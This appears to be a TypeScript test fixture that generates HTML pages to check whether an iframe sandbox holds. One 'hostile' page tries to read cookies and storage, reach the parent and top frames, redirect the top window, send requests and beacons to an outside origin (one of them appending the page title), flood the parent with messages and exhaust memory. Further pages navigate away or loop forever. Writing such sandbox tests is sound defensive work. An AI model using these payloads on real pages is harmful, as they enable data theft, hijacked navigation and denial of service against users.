/**
 * Code that tries whatever code in a frame could do to a page, its reader and others. It writes what came of each try into its
 * own document: `refused`, or what it got.
 */

/** `elsewhere`: an origin that answers and notes whatever is asked of it; `portal`: one of ours. */
export const hostileCode = (
  elsewhere: string,
  portal: string,
): string => `<!doctype html><meta charset="utf-8">
<title>hostile</title><link rel="stylesheet" href="${elsewhere}/sheet"><link rel="icon" href="${elsewhere}/icon">
<img src="${elsewhere}/image"><img src="${portal}/_image"><script src="${elsewhere}/script"></script>
<script src="${portal}/_script"></script><iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>
<video src="${elsewhere}/film"></video><base href="${elsewhere}/base/"><p>begun</p>
<form id="form" action="${elsewhere}/form" method="post" target="_top"><input name="q" value="x"></form>
<form id="self" action="${elsewhere}/self"><input name="q" value="x"></form>
<script>
const results = {}
const show = (name, got) => {
  results[name] = got
  document.querySelector('p').textContent = JSON.stringify(results)
}
const attempt = (name, what) => {
  try { show(name, String(what())) } catch (error) { show(name, 'refused') }
}
const asks = (name, what) =>
  Promise.resolve().then(what).then((got) => show(name, 'got ' + got), () => show(name, 'refused'))
const within = (name, made, loaded) => new Promise((done, failed) => {
  setTimeout(failed, 1500)
  made.onerror = failed
  made[loaded] = () => done(name)
})
attempt('cookie', () => document.cookie || 'nothing')
attempt('set cookie', () => (document.cookie = 'a=b') && document.cookie)
attempt('storage', () => localStorage.length)
attempt('session storage', () => sessionStorage.length)
attempt('database', () => indexedDB.open('x') && 'opened')
attempt('origin', () => self.origin)
attempt('parent document', () => parent.document.title)
attempt('top document', () => top.document.title)
attempt('parent address', () => parent.location.href)
attempt('frame element', () => frameElement === null ? 'nothing' : frameElement.src)
attempt('sibling', () => parent.frames[0] === self ? 'alone' : parent.frames[0].document.title)
attempt('top address', () => (top.location = '${elsewhere}/top') && 'led')
attempt('top assign', () => top.location.replace('${elsewhere}/top'))
attempt('parent address set', () => { parent.location = '${elsewhere}/parent' })
attempt('popup', () => window.open('${elsewhere}/popup') === null ? 'nothing' : 'opened')
attempt('popup at top', () => window.open('${elsewhere}/popup-top', '_top') === null ? 'nothing' : 'opened')
attempt('alert', () => { alert('x'); return confirm('x') })
attempt('form', () => { form.submit(); return 'sent' })
attempt('own form', () => { self.document.getElementById('self').submit(); return 'sent' })
attempt('beacon', () => navigator.sendBeacon('${elsewhere}/beacon', 'x') ? 'queued' : 'refused')
asks('worker', () => within('x', new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'onmessage'))
asks('service worker', () => navigator.serviceWorker.register('/sw.js'))
asks('shared worker', () => within('x', new SharedWorker('data:text/javascript,1').port, 'onmessage'))
asks('channel', () => new Promise((done, failed) => { const it = new BroadcastChannel('x'); it.onmessage = done; setTimeout(failed, 1000) }))
asks('fetch elsewhere', () => fetch('${elsewhere}/fetch', { mode: 'no-cors' }))
asks('fetch portal', () => fetch('${portal}/_fetch', { mode: 'no-cors', credentials: 'include' }))
asks('graph', () => fetch('${portal}/graphql', { method: 'POST', body: '{}' }))
asks('own origin', () => fetch('/own'))
asks('socket', () => within('x', new WebSocket('${elsewhere}/socket'.replace('http', 'ws')), 'onopen'))
asks('events', () => within('x', new EventSource('${elsewhere}/events'), 'onopen'))
asks('request', () => { const it = new XMLHttpRequest(); it.open('GET', '${elsewhere}/request', false); it.send(); return it.status })
asks('image', () => { const it = new Image(); const got = within('x', it, 'onload'); it.src = '${elsewhere}/late-image?' + document.title; return got })
asks('module', () => import('${elsewhere}/module'))
asks('clipboard', () => navigator.clipboard.writeText('x'))
asks('place', () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)))
asks('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
asks('whole screen', () => document.documentElement.requestFullscreen())
asks('nested frame', () => { const it = document.createElement('iframe'); it.src = '${elsewhere}/nested'; document.body.append(it); return new Promise((_, failed) => addEventListener('securitypolicyviolation', failed)) })
setTimeout(() => {
  for (let n = 0; n < 20000; n++) { parent.postMessage({ n, text: 'x'.repeat(100) }, '*'); top.postMessage('x', '*') }
  show('flood', 'sent')
}, 500)
setTimeout(() => {
  for (let n = 0; n < 200000; n++) document.body.append(document.createElement('i'))
  show('growth', 'done')
}, 1000)
setTimeout(() => show('over', 'yes'), 2500)
</script>`

/** Then leads its own frame away, by every way that a document has. */
export const leavingCode = (elsewhere: string): string => `<!doctype html><p>leaving</p>
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><a href="${elsewhere}/link">x</a>
<script>setTimeout(() => document.querySelector('a').click(), 100)
setTimeout(() => { location.href = '${elsewhere}/away?' + document.title }, 200)
setTimeout(() => location.replace('data:text/html,x'), 400)</script>`

/** Never ends. */
export const endlessCode =
  '<!doctype html><p>endless</p><script>setTimeout(() => { for (;;) {} }, 100)</script>'

/** What it is for: it runs, draws and listens, without anybody else. */
export const goodCode = `<!doctype html><meta charset="utf-8"><style>canvas { background: #eee }</style>
<h1>Countdown</h1><p id="days"></p><canvas width="40" height="20"></canvas><button>more</button>
<img alt="dot" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<script>
days.textContent = 'in ' + (3 * 33) + ' days'
const pen = document.querySelector('canvas').getContext('2d')
pen.fillStyle = '#c00'
pen.fillRect(0, 0, 40, 20)
document.querySelector('button').onclick = ({ target }) => { target.textContent = 'pressed' }
</script>`
